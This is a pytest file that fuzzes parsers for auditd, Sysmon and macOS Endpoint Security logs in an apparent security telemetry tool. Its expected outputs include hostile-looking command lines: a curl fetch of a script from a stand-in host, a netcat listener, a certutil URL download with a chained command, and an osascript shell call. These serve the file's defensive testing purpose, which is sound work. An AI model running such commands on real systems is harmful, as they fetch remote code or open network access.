"""No line that an attacker may write ends a scan; good lines beside it are read as ever."""

import gzip
import json
import random
import re
from datetime import datetime

import pytest

from nightjar.sources import auditd, endpoint_security, sysmon

from test_sources_and_surface import AUDIT, es_line, sysmon_xml


def lines(spark, values):
    return spark.createDataFrame([(v, "f", k) for k, v in enumerate(values)], "value string, file string, at long")


def brute_arguments(execve):
    """Argument by argument, each by a search of its own."""
    n = re.search(r"argc=(\d+)", execve)
    out = []
    for i in range(min(int(n[1]), 200) if n else 0):
        m = re.search(rf'\ba{i}="([^"]*)"', execve)
        if m:
            out.append(m[1])
        elif m := re.search(rf"\ba{i}=(\S+)", execve):
            out.append(re.sub('"$', "", m[1]))
    return " ".join(out)


def test_arguments_of_any_line(spark):
    rng = random.Random(1)
    pieces = ["a0=", "a1=", "a2=", "a10=", "a01=", '"', '"x y"', '""', "sh", "-c", " ", " ", "ba1=q", "argc=3 ", "argc=99 ", "\\", "é", "a1"]
    texts = ["argc=3 a0=\"x a1=z\" a2=k", "argc=2 a1=b a0=a", 'argc=2 a0=bare a0="quoted" a1=""'] + ["".join(rng.choice(pieces) for _ in range(rng.randrange(25))) for _ in range(400)]
    got = spark.createDataFrame([(t,) for t in texts], "t string").select("t", auditd.arguments(auditd.F.col("t")).alias("got")).collect()
    assert [r["got"] for r in got] == [brute_arguments(t) for t in texts]


def test_auditd_numbers_beyond_all_bounds(spark):
    bad = []
    for k, (argc, epoch) in enumerate([("900000000", "1767225600.000"), ("99999999999", "1767225600.000"), ("9" * 40, "1767225600.000"), ("1", "9" * 20), ("1", "9" * 40 + ".5"), ("1", "99999999999999"), ("", "1767225600.000")]):
        msg = f"msg=audit({epoch}:{100 + k}):"
        bad += [f'type=EXECVE {msg} argc={argc} a0="bad" a99999999999=x', f"type=SYSCALL {msg} pid={'9' * 30} ppid={'8' * 25} uid={'7' * 22}"]
    got = auditd.events_from_lines(lines(spark, AUDIT.split("\n") + bad)).orderBy("ts", "command_line").collect()
    assert [r["command_line"] for r in got] == ["bad"] * 3 + ["/usr/bin/curl http://x.example/a.sh -s", "nc -l"]
    assert all(r["process_id"] == 0 and r["parent_process_id"] is None for r in got[:3])


def test_sysmon_repeated_names_take_the_last(spark):
    twice = sysmon_xml().replace("<EventData>", '<EventData><Data Name="Image">C:\\first.exe</Data><Data Name="Odd">1</Data><Data Name="Odd">2</Data>')
    (row,) = sysmon.events_from_xml(spark.createDataFrame([(twice,)], "value string")).collect()
    assert row["process_name"] == "certutil.exe" and json.loads(row["raw"])["parsed"]["Odd"] == "2"


def test_endpoint_security_times_and_ids(spark):
    bad = [es_line(time=t) for t in (99999999999999, -(10**30), 10**40, "99999-01-01T00:00:00Z", "9" * 30, [], {"a": 1}, True)]
    bad += [es_line(process={"ppid": 10**30, "audit_token": {"pid": "x", "euid": 2**70}}), es_line(process=[]), es_line(event={"exec": {"args": "x", "target": 7}}), "[]", "3", '"x"', "{" * 500]
    got = endpoint_security.events_from_lines(lines(spark, [es_line(), *bad])).collect()
    assert sum(r["ts"] == datetime(1970, 1, 1) for r in got) == 8 and sum(r["ts"].year == 2026 for r in got) >= 2


@pytest.mark.parametrize("seed", [1, 2])
def test_mutated_lines(spark, seed):
    """Lines with bytes changed, cut, doubled and swapped: the scan ends, and lines left alone come out as before."""
    rng = random.Random(seed)

    def mutated(x):
        x = list(x)
        for _ in range(rng.randrange(1, 6)):
            k = rng.randrange(len(x) + 1)
            x[k : k + rng.choice([0, 1, 1, 5])] = rng.choice(["", "9" * 25, '"', "<", ">", "&#999999999;", "\x00", "\ud7ff", "audit(", "=", "\\", "{", "0x", "-", "e9", "argc=88888888 "])
        return "".join(x)

    audit = [x for x in AUDIT.split("\n") if x]
    got = auditd.events_from_lines(lines(spark, audit + [mutated(rng.choice(audit)).replace(":7)", ":70)").replace(":8)", ":80)") for _ in range(150)])).collect()
    assert {"nc -l", "/usr/bin/curl http://x.example/a.sh -s"} <= {r["command_line"] for r in got}
    xml = sysmon.events_from_xml(spark.createDataFrame([(sysmon_xml(),)] + [(mutated(sysmon_xml()),) for _ in range(100)], "value string")).collect()
    assert any(r["process_id"] == 0x1A2B and r["command_line"] == "certutil -urlcache -f http://x & y" for r in xml)
    es = endpoint_security.events_from_lines(lines(spark, [es_line()] + [mutated(es_line()) for _ in range(150)])).collect()
    assert any(r["command_line"] == "osascript -e do shell script" for r in es)


def test_bad_files_of_a_folder_are_skipped(spark, tmp_path):
    (tmp_path / "audit.log").write_text(AUDIT)
    whole = gzip.compress(AUDIT.encode() * 2000)
    (tmp_path / "audit.log.1.gz").write_bytes(whole[: len(whole) // 2])
    assert auditd.read_folder(spark, str(tmp_path)).count() >= 2
    with pytest.raises(Exception, match="(?i)eof|end of|corrupt|FAILED_READ_FILE"):
        auditd.read(spark, str(tmp_path / "audit.log.1.gz")).count()
    (tmp_path / "mac").mkdir()
    (tmp_path / "mac" / "a.ndjson").write_text(es_line())
    (tmp_path / "mac" / "b.log").write_bytes(b"\xff\xfe\x00" * 100)
    assert endpoint_security.read_folder(spark, str(tmp_path / "mac")).count() == 1
